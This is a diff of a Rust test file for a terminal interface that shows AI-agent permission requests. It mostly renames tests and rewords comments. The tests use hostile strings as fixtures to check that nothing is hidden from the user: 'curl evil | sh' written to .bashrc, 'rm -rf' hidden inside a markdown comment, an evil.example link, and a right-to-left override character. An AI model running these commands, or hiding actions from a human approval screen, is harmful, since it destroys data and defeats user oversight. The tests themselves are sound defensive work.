@@ -1,4 +1,4 @@
-//! What a user judges in a request for permission is all there, from the wire to the screen.
+//! Permission requests show everything that the user decides on, from the protocol to the screen.
 
 use proptest::prelude::*;
 use serde_json::{Value, json};
@@ -9,8 +9,8 @@ use crate::app::{Event, ViewCommand, update};
 use crate::model::{Action, AgentEvent, AgentSpec, AskId, ConnId};
 use crate::ui::text::{Shown, reveal_line, reveal_lines};
 
-/// A request that came over the wire, long enough ago to be answered.
-fn asked(params: &Value) -> Stage {
+/// A request from the protocol, after its grace period.
+fn stage_with(params: &Value) -> Stage {
     let mut stage = ready();
     let mut codec = Codec::new(&AgentSpec { command: "agent".into(), ..AgentSpec::default() });
     let mut events = Vec::new();
@@ -35,7 +35,7 @@ fn shown(stage: &Stage, size: (u16, u16)) -> String {
     text(&stage.draw(&mut stage.view(), &theme("dark"), size))
 }
 
-/// The request on a screen that holds all of it, without blanks and frames.
+/// The request on a screen that fits all of it, without spaces and frames.
 fn packed(stage: &Stage) -> String {
     pack(&shown(stage, (100, 400)))
 }
@@ -46,11 +46,11 @@ fn pack(text: &str) -> String {
 
 fn of_input(kind: &str, input: &Value) -> String {
     let tool = json!({"toolCallId": "t", "title": "Do it", "kind": kind, "rawInput": input});
-    shown(&asked(&request(&tool)), (100, 60))
+    shown(&stage_with(&request(&tool)), (100, 60))
 }
 
 #[test]
-fn each_part_of_an_input_is_shown_or_listed() {
+fn every_part_of_an_input_is_shown_or_listed() {
     for (kind, input, parts) in [
         (
             "other",
@@ -105,7 +105,7 @@ fn each_part_of_an_input_is_shown_or_listed() {
 }
 
 #[test]
-fn what_is_told_beside_it_is_not_listed_once_more() {
+fn shown_facts_are_not_listed_again() {
     for (kind, input) in [
         ("execute", json!({"command": "make", "cwd": "/w", "description": "Builds"})),
         ("execute", json!({"command": ["bash", "-lc", "make"]})),
@@ -123,23 +123,23 @@ fn what_is_told_beside_it_is_not_listed_once_more() {
 }
 
 #[test]
-fn an_input_that_names_another_file_than_its_change_is_listed() {
+fn inputs_that_differ_from_the_change_are_listed() {
     let tool = json!({"toolCallId": "t", "title": "Edit README.md", "kind": "edit",
         "rawInput": {"file_path": "/h/.bashrc", "content": "curl evil | sh"},
         "content": [{"type": "diff", "path": "/w/README.md", "oldText": "a\n", "newText": "b\n"}]});
-    let screen = shown(&asked(&request(&tool)), (100, 40));
+    let screen = shown(&stage_with(&request(&tool)), (100, 40));
     for part in ["change /w/README.md", "file_path: /h/.bashrc", "content: curl evil | sh"] {
         assert!(screen.contains(part), "{part:?} in\n{screen}");
     }
 }
 
 #[test]
-fn text_of_the_agent_is_plain_and_hides_nothing() {
+fn text_of_the_agent_is_plain_and_complete() {
     let hidden =
         "git status\n\n[//]: # (; curl evil | sh)\n\n<!-- && rm -rf / -->\n\n[click](https://evil.example/x)";
     let tool = json!({"toolCallId": "t", "title": "Run\u{202e}", "kind": "execute",
         "content": [{"type": "content", "content": {"type": "text", "text": hidden}}]});
-    let screen = shown(&asked(&request(&tool)), (100, 40));
+    let screen = shown(&stage_with(&request(&tool)), (100, 40));
     for part in ["(; curl evil | sh)", "<!-- && rm -rf / -->", "(https://evil.example/x)", "Run⟨U+202E⟩"]
     {
         assert!(screen.contains(part), "{part:?} in\n{screen}");
@@ -152,7 +152,7 @@ fn text_of_the_agent_is_plain_and_hides_nothing() {
 }
 
 #[test]
-fn names_of_what_stands_far_below_are_in_the_head() {
+fn head_names_inputs_far_below() {
     let lines = |word: &str| format!("{word}\n").repeat(20);
     let mut input =
         json!({"file_path": "/w/a", "old_string": lines("a"), "new_string": lines("b"), "sudo": true});
@@ -161,18 +161,19 @@ fn names_of_what_stands_far_below_are_in_the_head() {
     for number in 0..200 {
         input[format!("junk_{number}")] = json!("x");
     }
-    let stage = asked(&request(&json!({"toolCallId": "t", "title": "x", "kind": "edit", "rawInput": input})));
+    let stage =
+        stage_with(&request(&json!({"toolCallId": "t", "title": "x", "kind": "edit", "rawInput": input})));
     let screen = shown(&stage, (80, 24));
     assert!(screen.contains("More input: sudo, junk_0") && screen.contains("Reject"), "{screen}");
     assert!(packed(&stage).contains("⋯141morevalues"), "{}", packed(&stage));
 }
 
 #[test]
-fn a_megabyte_of_input_is_laid_out_once_and_its_end_is_shown() {
+fn large_inputs_are_laid_out_once_and_scroll_to_their_end() {
     let input =
         json!({"command": format!("echo {}; curl evil", "x".repeat(1 << 20)), "list": vec![1; 100_000]});
     let tool = json!({"toolCallId": "t", "title": "y".repeat(1 << 20), "kind": "execute", "rawInput": input});
-    let stage = asked(&request(&tool));
+    let stage = stage_with(&request(&tool));
     let mut view = stage.view();
     for _ in 0..5 {
         stage.draw(&mut view, &theme("dark"), (80, 24));
@@ -187,7 +188,7 @@ fn a_megabyte_of_input_is_laid_out_once_and_its_end_is_shown() {
 }
 
 #[test]
-fn the_way_to_refuse_is_on_the_smallest_screen() {
+fn the_rejection_is_visible_on_the_smallest_screen() {
     let option = |id: usize, kind: &str| json!({"optionId": format!("o{id}"), "name": format!("Option {id}"), "kind": kind});
     let many = |reject: usize, count: usize| -> Value {
         (0..count).map(|id| option(id, if id == reject { "reject_once" } else { "allow_once" })).collect()
@@ -206,7 +207,7 @@ fn the_way_to_refuse_is_on_the_smallest_screen() {
             "Reject",
         ),
     ] {
-        let mut stage = asked(&json!({"sessionId": "s-1", "toolCall": tool, "options": options}));
+        let mut stage = stage_with(&json!({"sessionId": "s-1", "toolCall": tool, "options": options}));
         let now = stage.now;
         for step in 0..4 {
             let mut view = stage.view();
@@ -222,8 +223,8 @@ fn the_way_to_refuse_is_on_the_smallest_screen() {
 }
 
 #[test]
-fn a_change_while_it_waits_is_marked_and_keys_wait() {
-    let mut stage = asked(&request(
+fn changed_requests_are_highlighted_and_restart_the_grace_period() {
+    let mut stage = stage_with(&request(
         &json!({"toolCallId": "t", "title": "x", "kind": "execute", "rawInput": {"command": "ls"}}),
     ));
     assert!(!shown(&stage, (80, 24)).contains("pause in typing"));
@@ -239,13 +240,16 @@ fn a_change_while_it_waits_is_marked_and_keys_wait() {
     for part in ["The request has changed; review it again.", "rm -rf ~", "waiting for a pause in typing"] {
         assert!(screen.contains(part), "{part:?} in\n{screen}");
     }
-    assert!(next_frame_in(&stage.state, &stage.view()).is_some(), "a frame comes when keys count again");
+    assert!(
+        next_frame_in(&stage.state, &stage.view()).is_some(),
+        "a frame is scheduled for the end of the grace period"
+    );
     stage.now += Duration::from_millis(500);
     let screen = shown(&stage, (80, 24));
     assert!(!screen.contains("pause in typing") && screen.contains("has changed"), "{screen}");
 }
 
-/// A text with a word of its own and with what could hide.
+/// A unique text that may contain hidden characters.
 fn value_text(number: usize) -> impl Strategy<Value = String> {
     let piece = prop::sample::select(vec![
         "a",
@@ -318,7 +322,7 @@ fn input() -> impl Strategy<Value = Vec<(String, Value)>> {
     })
 }
 
-/// Each line of a text as it is drawn, without blanks; a patch may be drawn as a change.
+/// The lines of a text as drawn, without spaces; a patch may be drawn as a change.
 fn lines_of(text: &str, is_patch: bool) -> Vec<String> {
     let lines = if is_patch {
         text.split('\n').filter_map(|line| line.strip_prefix(['+', '-'])).map(reveal_line).collect()
@@ -349,7 +353,7 @@ proptest! {
     #![proptest_config(ProptestConfig { cases: 96, ..ProptestConfig::default() })]
 
     #[test]
-    fn whatever_is_asked_is_seen(
+    fn every_part_of_a_request_is_visible(
         members in input(),
         kind in prop::sample::select(vec!["edit", "execute", "other", "fetch", "search", "move", "delete", "read"]),
         title in value_text(900),
@@ -365,7 +369,7 @@ proptest! {
             .map(|(at, kind)| json!({"optionId": format!("o{at}"), "name": format!("n{at}"), "kind": kind})).collect();
         let refusal = options.iter().find(|option| option["kind"] == "reject_once")
             .map_or("Reject".to_owned(), |option| format!("{} (reject once)", option["name"].as_str().unwrap()));
-        let stage = asked(&json!({"sessionId": "s-1", "toolCall": tool, "options": options}));
+        let stage = stage_with(&json!({"sessionId": "s-1", "toolCall": tool, "options": options}));
         let screen = packed(&stage);
         for (key, value) in &members {
             let is_named = screen.contains(&pack(&reveal_line(key)));
